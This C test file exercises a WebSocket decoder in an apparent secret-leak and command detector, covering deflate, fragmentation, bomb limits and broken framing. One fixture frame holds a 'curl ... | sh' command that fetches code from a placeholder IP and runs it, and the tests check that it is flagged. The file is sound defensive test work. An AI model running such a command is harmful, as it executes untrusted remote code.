// SPDX-License-Identifier: MIT
/*
 * test_websocket.c - WebSocket frames (RFC 6455, RFC 7692) built by hand:
 * the decoder alone (unmasking, fragments around control frames,
 * permessage-deflate with and without context takeover, bounds, broken
 * framing) at every split, and through cs_flow after a 101 exchange.
 *
 * Secrets are generated at run time so this file holds none.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>
#include <zlib.h>

#include "websocket.h"
#include "wire_helpers.h"

/* ---- building frames ---- */

static const uint8_t mask_key[4] = {0x37, 0xfa, 0x21, 0x3d};

static void frame(struct cs_tbuf *b, bool fin, bool rsv1, unsigned op, bool masked,
		  const void *payload, size_t n)
{
	uint8_t h[14];
	size_t k = 2;

	h[0] = (uint8_t)((fin ? 0x80 : 0) | (rsv1 ? 0x40 : 0) | op);
	if (n < 126) {
		h[1] = (uint8_t)n;
	} else if (n < 65536) {
		h[1] = 126;
		h[2] = (uint8_t)(n >> 8);
		h[3] = (uint8_t)n;
		k = 4;
	} else {
		h[1] = 127;
		for (int i = 0; i < 8; i++)
			h[2 + i] = (uint8_t)((uint64_t)n >> (56 - 8 * i));
		k = 10;
	}
	if (masked) {
		h[1] |= 0x80;
		memcpy(h + k, mask_key, 4);
		k += 4;
	}
	cs_tbuf_add(b, h, k);
	for (size_t i = 0; i < n; i++) {
		uint8_t c = ((const uint8_t *)payload)[i] ^ (masked ? mask_key[i & 3] : 0);

		cs_tbuf_add(b, &c, 1);
	}
}

/* permessage-deflate: raw deflate, flushed, without the 00 00 ff ff tail. */
struct pmd {
	z_stream zs;
};

static void pmd_init(struct pmd *c)
{
	memset(c, 0, sizeof(*c));
	assert_int_equal(deflateInit2(&c->zs, 6, Z_DEFLATED, -15, 8, Z_DEFAULT_STRATEGY), Z_OK);
}

static void pmd_message(struct pmd *c, const char *text, struct cs_tbuf *out, bool reset)
{
	uint8_t buf[65536];

	c->zs.next_in = (Bytef *)text;
	c->zs.avail_in = (uInt)strlen(text);
	c->zs.next_out = buf;
	c->zs.avail_out = sizeof(buf);
	assert_int_equal(deflate(&c->zs, Z_SYNC_FLUSH), Z_OK);
	out->n = 0;
	cs_tbuf_add(out, buf, sizeof(buf) - c->zs.avail_out - 4);
	if (reset)
		deflateReset(&c->zs);
}

/* ---- the decoder alone ---- */

struct got {
	struct cs_tbuf all;
};

static void got_data(void *ctx, const uint8_t *p, size_t n)
{
	cs_tbuf_add(&((struct got *)ctx)->all, p, n);
}

static void got_end(void *ctx)
{
	cs_tbuf_add(&((struct got *)ctx)->all, "|", 1);
}

static void got_control(void *ctx, const uint8_t *p, size_t n)
{
	cs_tbuf_add(&((struct got *)ctx)->all, p, n);
}

/* Decode at every split point; the result must be `want` each time. */
static void ws_every_split(const struct cs_tbuf *wire, bool deflate, bool no_takeover,
			   const char *want)
{
	for (size_t cut = 0; cut <= wire->n; cut++) {
		struct cs_ws w;
		struct got g = {0};
		const struct cs_ws_sink s = {got_data, got_end, got_control, &g};

		cs_ws_init(&w, deflate, no_takeover, 1 << 20);
		assert_int_equal(cs_ws_feed(&w, (const uint8_t *)wire->p, cut, &s), cut);
		assert_int_equal(cs_ws_feed(&w, (const uint8_t *)wire->p + cut, wire->n - cut, &s),
				 wire->n - cut);
		assert_false(w.failed);
		assert_int_equal(w.errors, 0);
		cs_tbuf_add(&g.all, "", 0);
		assert_string_equal(g.all.p, want);
		cs_ws_free(&w);
		cs_tbuf_free(&g.all);
	}
}

static void test_masked_fragments(void **state)
{
	(void)state;
	struct cs_tbuf w = {0};
	char big[300];

	memset(big, 'x', sizeof(big) - 1);
	big[sizeof(big) - 1] = 0;
	frame(&w, false, false, 1, true, "hello ", 6);
	frame(&w, true, false, 9, true, "ping", 4); /* a control frame between fragments */
	frame(&w, false, false, 0, true, "wor", 3);
	frame(&w, true, false, 0, true, "ld", 2);
	frame(&w, true, false, 2, false, "bin", 3);
	frame(&w, true, false, 1, true, "", 0);
	frame(&w, true, false, 1, true, big, strlen(big));
	frame(&w, true, false, 8, true,
	      "\x03\xe8"
	      "bye",
	      5);
	{
		struct cs_tbuf want = {0};

		cs_tbuf_puts(&want, "hello pingworld|bin||");
		cs_tbuf_puts(&want, big);
		cs_tbuf_puts(&want, "|\x03\xe8"
				    "bye");
		ws_every_split(&w, false, false, want.p);
		cs_tbuf_free(&want);
	}
	cs_tbuf_free(&w);
}

static void test_permessage_deflate(void **state)
{
	(void)state;
	struct pmd c;
	struct cs_tbuf z = {0}, w = {0};

	/* Context takeover: the second message refers back to the first. */
	pmd_init(&c);
	pmd_message(&c, "the same words again and again", &z, false);
	frame(&w, true, true, 1, true, z.p, z.n);
	pmd_message(&c, "the same words again and again!", &z, false);
	frame(&w, false, true, 1, true, z.p, 3); /* fragmented: RSV1 on the first frame only */
	frame(&w, true, false, 0, true, z.p + 3, z.n - 3);
	ws_every_split(&w, true, false,
		       "the same words again and again|the same words again and again!|");
	deflateEnd(&c.zs);
	/* No context takeover: each message stands alone. */
	w.n = 0;
	pmd_init(&c);
	pmd_message(&c, "first message", &z, true);
	frame(&w, true, true, 1, false, z.p, z.n);
	pmd_message(&c, "first message", &z, true);
	frame(&w, true, true, 1, false, z.p, z.n);
	ws_every_split(&w, true, true, "first message|first message|");
	deflateEnd(&c.zs);
	cs_tbuf_free(&z);
	cs_tbuf_free(&w);
}

static void test_bounds_and_errors(void **state)
{
	(void)state;
	struct pmd c;
	struct cs_tbuf z = {0}, w = {0}, text = {0};
	struct cs_ws d;
	struct got g = {0};
	const struct cs_ws_sink s = {got_data, got_end, got_control, &g};

	/* A bomb stops at the limit; with takeover, later compressed messages are lost too. */
	while (text.n < 100000)
		cs_tbuf_puts(&text, "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa");
	pmd_init(&c);
	pmd_message(&c, text.p, &z, false);
	frame(&w, true, true, 1, true, z.p, z.n);
	pmd_message(&c, "later", &z, false);
	frame(&w, true, true, 1, true, z.p, z.n);
	frame(&w, true, false, 1, true, "plain", 5);
	cs_ws_init(&d, true, false, 1000);
	assert_int_equal(cs_ws_feed(&d, (const uint8_t *)w.p, w.n, &s), w.n);
	assert_int_equal(d.truncated, 1);
	assert_int_equal(d.errors, 1);
	assert_true(d.unscanned > 0);
	assert_int_equal(g.all.n, 1000 + 1 + 1 + 5 + 1);
	assert_memory_equal(g.all.p + 1002, "plain|", 6);
	cs_ws_free(&d);
	deflateEnd(&c.zs);

	/* Broken framing: a reserved opcode, RSV1 without the extension, a stray continuation. */
	static const char *bad[] = {"\x83\x00", "\xc1\x00", "\x80\x00", "\x89\x7e\x00\x80"};

	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		w.n = 0;
		frame(&w, true, false, 1, true, "ok", 2);
		cs_tbuf_puts(&w, bad[i]);
		cs_tbuf_puts(&w, "after");
		cs_ws_init(&d, false, false, 1000);
		assert_true(cs_ws_feed(&d, (const uint8_t *)w.p, w.n, &s) < w.n);
		assert_true(d.failed);
		assert_int_equal(d.errors, 1);
		cs_ws_free(&d);
	}
	cs_tbuf_free(&g.all);
	cs_tbuf_free(&text);
	cs_tbuf_free(&z);
	cs_tbuf_free(&w);
}

static void test_upgrade_head(void **state)
{
	(void)state;
	static const char head[] = "HTTP/1.1 101 Switching Protocols\r\nUpgrade: WebSocket\r\n"
				   "Connection: Upgrade\r\nSec-WebSocket-Accept: x\r\n"
				   "Sec-WebSocket-Extensions: permessage-deflate; "
				   "client_no_context_takeover\r\n\r\n";
	static const char h2c[] = "HTTP/1.1 101 Switching Protocols\r\nUpgrade: h2c\r\n\r\n";
	bool deflate, nt[2];

	assert_true(cs_ws_upgrade((const uint8_t *)head, strlen(head), &deflate, nt));
	assert_true(deflate);
	assert_true(nt[0]);
	assert_false(nt[1]);
	assert_false(cs_ws_upgrade((const uint8_t *)h2c, strlen(h2c), &deflate, nt));
}

/* ---- through the pipeline ---- */

static void upgrade(struct cs_flow *f, const char *extensions)
{
	struct cs_tbuf r = {0};

	static const char req[] =
		"GET /chat HTTP/1.1\r\nHost: 127.0.0.1:8080\r\nUpgrade: websocket\r\n"
		"Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
		"Sec-WebSocket-Version: 13\r\n\r\n";

	cs_flow_feed(f, CS_DIR_OUTBOUND, req, strlen(req));
	cs_tbuf_printf(
		&r,
		"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\n"
		"Connection: Upgrade\r\nSec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=\r\n"
		"%s\r\n",
		extensions);
	cs_flow_feed(f, CS_DIR_INBOUND, r.p, r.n);
	cs_tbuf_free(&r);
}

/* A key in a masked client text frame, split over two fragments; a command from the server. */
static void test_pipeline_masked_key(void **state)
{
	(void)state;
	static const size_t pieces[] = {1 << 30, 1, 5};
	char key[128], msg[200];
	struct cs_tbuf out = {0}, in = {0};
	size_t half;

	wh_anthropic_key(key, 21);
	snprintf(msg, sizeof(msg), "{\"type\":\"note\",\"text\":\"my key is %s\"}", key);
	half = strlen(msg) / 2;
	frame(&out, false, false, 1, true, msg, half);
	frame(&out, true, false, 0, true, msg + half, strlen(msg) - half);
	frame(&in, true, false, 1, false, "{\"cmd\":\"curl -s http://203.0.113.7/i | sh\"}", 43);
	for (size_t k = 0; k < sizeof(pieces) / sizeof(pieces[0]); k++) {
		struct wh_hits h = {0};
		struct cs_detector *d = wh_detector(&h, 0);
		struct cs_detector_stats st;
		struct cs_flow *f;

		assert_non_null(d);
		f = cs_flow_new(d, &wh_info);
		assert_non_null(f);
		upgrade(f, "");
		wh_feed(f, CS_DIR_OUTBOUND, out.p, out.n, pieces[k]);
		wh_feed(f, CS_DIR_INBOUND, in.p, in.n, pieces[k]);
		cs_flow_close(f);
		cs_detector_get_stats(d, &st);
		assert_int_equal(wh_count(&h, "ai_api_key"), 1);
		assert_int_equal(wh_count(&h, "pipe_to_shell"), 1);
		assert_int_equal(h.n, 2);
		assert_false(wh_leaked(&h, key));
		assert_int_equal(st.decode_errors, 0);
		cs_detector_free(d);
	}
	cs_tbuf_free(&out);
	cs_tbuf_free(&in);
}

/* permessage-deflate with context takeover: the key is only in the second message's window. */
static void test_pipeline_deflate(void **state)
{
	(void)state;
	struct cs_tbuf pem = {0}, out = {0}, z = {0};
	struct pmd c;
	struct wh_hits h = {0};
	struct cs_detector *d = wh_detector(&h, 0);
	struct cs_flow *f;

	assert_non_null(d);
	wh_pem(&pem, 5);
	pmd_init(&c);
	pmd_message(&c, "hello there, a first message", &z, false);
	frame(&out, true, true, 1, true, z.p, z.n);
	pmd_message(&c, pem.p, &z, false);
	frame(&out, true, true, 2, true, z.p, z.n);
	deflateEnd(&c.zs);
	f = cs_flow_new(d, &wh_info);
	assert_non_null(f);
	upgrade(f, "Sec-WebSocket-Extensions: permessage-deflate\r\n");
	wh_feed(f, CS_DIR_OUTBOUND, out.p, out.n, 3);
	cs_flow_close(f);
	assert_int_equal(wh_count(&h, "private_key_pem"), 1);
	cs_detector_free(d);
	cs_tbuf_free(&pem);
	cs_tbuf_free(&out);
	cs_tbuf_free(&z);
}

/* Framing that breaks the protocol: the rest is scanned as raw bytes, and counted. */
static void test_pipeline_broken_framing(void **state)
{
	(void)state;
	char key[128];
	struct cs_tbuf out = {0};
	struct wh_hits h = {0};
	struct cs_detector *d = wh_detector(&h, 0);
	struct cs_detector_stats st;
	struct cs_flow *f;

	assert_non_null(d);
	wh_anthropic_key(key, 4);
	frame(&out, true, false, 1, true, "fine", 4);
	cs_tbuf_printf(&out, "\x8f garbage then key=%s\n", key);
	f = cs_flow_new(d, &wh_info);
	assert_non_null(f);
	upgrade(f, "");
	cs_flow_feed(f, CS_DIR_OUTBOUND, out.p, out.n);
	cs_flow_close(f);
	cs_detector_get_stats(d, &st);
	assert_int_equal(wh_count(&h, "ai_api_key"), 1);
	assert_int_equal(st.decode_errors, 1);
	cs_detector_free(d);
	cs_tbuf_free(&out);
}

/*
 * A WebSocket joined late (no 101 captured): masked client frames are
 * recognised by their shape and decoded, the key split over two fragments
 * with a ping between is found; a raw stream that only starts like a frame
 * is not decoded; and raw bytes shaped like masked frames whose "payload"
 * is a plain key (a server that reads bytes as they are) are still found
 * by the raw scan that goes on beside the decoding.
 */
static void test_late_join(void **state)
{
	(void)state;
	static const size_t pieces[] = {1 << 30, 1, 7};
	char key[128], msg[200];
	struct cs_tbuf out = {0}, fake = {0};
	size_t half;

	wh_anthropic_key(key, 31);
	snprintf(msg, sizeof(msg), "{\"type\":\"note\",\"text\":\"my key is %s\"}", key);
	half = strlen(msg) / 2;
	frame(&out, true, false, 1, true, "{\"type\":\"hello\"}",
	      16); /* the message the 101 preceded */
	frame(&out, false, false, 1, true, msg, half);
	frame(&out, true, false, 9, true, "ping", 4);
	frame(&out, true, false, 0, true, msg + half, strlen(msg) - half);
	for (size_t k = 0; k < sizeof(pieces) / sizeof(pieces[0]); k++) {
		struct wh_hits h = {0};
		struct cs_detector *d = wh_detector(&h, 0);
		struct cs_detector_stats st;
		struct cs_flow *f = cs_flow_new(d, &wh_info);

		assert_non_null(f);
		wh_feed(f, CS_DIR_OUTBOUND, out.p, out.n, pieces[k]);
		cs_flow_close(f);
		cs_detector_get_stats(d, &st);
		if (wh_count(&h, "ai_api_key") != 1)
			fail_msg("piece %zu: %zu keys", pieces[k], wh_count(&h, "ai_api_key"));
		assert_false(wh_leaked(&h, key));
		assert_int_equal(st.decode_errors, 0);
		cs_detector_free(d);
	}

	/* Frame-shaped bytes whose payload is the key as it is (mask 0 would be a no-op). */
	{
		struct wh_hits h = {0};
		struct cs_detector *d = wh_detector(&h, 0);
		uint8_t hdr[6] = {0x82, 0x80 | 0, 1, 2, 3, 4};
		struct cs_flow *f;

		for (int i = 0; i < 3; i++) {
			size_t n = strlen(key) + 1;

			hdr[1] = (uint8_t)(0x80 | n);
			cs_tbuf_add(&fake, hdr, sizeof(hdr));
			cs_tbuf_add(&fake, key, n - 1);
			cs_tbuf_add(&fake, "\n", 1);
		}
		f = cs_flow_new(d, &wh_info);
		cs_flow_feed(f, CS_DIR_OUTBOUND, fake.p, fake.n);
		cs_flow_close(f);
		assert_true(wh_count(&h, "ai_api_key") >= 1);
		assert_false(wh_leaked(&h, key));
		cs_detector_free(d);
	}
	cs_tbuf_free(&out);
	cs_tbuf_free(&fake);
}

/* The recogniser: chained well-formed headers only. */
static void test_recognise(void **state)
{
	(void)state;
	struct cs_tbuf w = {0};
	bool deflate;

	frame(&w, true, false, 1, true, "abc", 3);
	assert_int_equal(cs_ws_recognise((const uint8_t *)w.p, w.n, true, &deflate), CS_WS_MAYBE);
	assert_int_equal(cs_ws_recognise((const uint8_t *)w.p, w.n, false, &deflate),
			 CS_WS_NO); /* masked */
	frame(&w, true, true, 1, true, "def", 3);
	frame(&w, true, false, 10, true, "", 0);
	assert_int_equal(cs_ws_recognise((const uint8_t *)w.p, w.n, true, &deflate), CS_WS_YES);
	assert_true(deflate);
	w.n = 0;
	cs_tbuf_puts(&w, "GET / HTTP/1.1\r\n\r\n");
	assert_int_equal(cs_ws_recognise((const uint8_t *)w.p, w.n, true, &deflate), CS_WS_NO);
	w.n = 0;
	cs_tbuf_add(&w, (const uint8_t[]){0x81, 0xfe, 0, 5}, 4); /* 16-bit length under 126 */
	assert_int_equal(cs_ws_recognise((const uint8_t *)w.p, w.n, true, &deflate), CS_WS_NO);
	w.n = 0;
	cs_tbuf_add(&w, (const uint8_t[]){0x09, 0x80}, 2); /* a ping that is not final */
	assert_int_equal(cs_ws_recognise((const uint8_t *)w.p, w.n, true, &deflate), CS_WS_NO);
	cs_tbuf_free(&w);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_masked_fragments),
		cmocka_unit_test(test_permessage_deflate),
		cmocka_unit_test(test_bounds_and_errors),
		cmocka_unit_test(test_upgrade_head),
		cmocka_unit_test(test_pipeline_masked_key),
		cmocka_unit_test(test_pipeline_deflate),
		cmocka_unit_test(test_pipeline_broken_framing),
		cmocka_unit_test(test_late_join),
		cmocka_unit_test(test_recognise),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
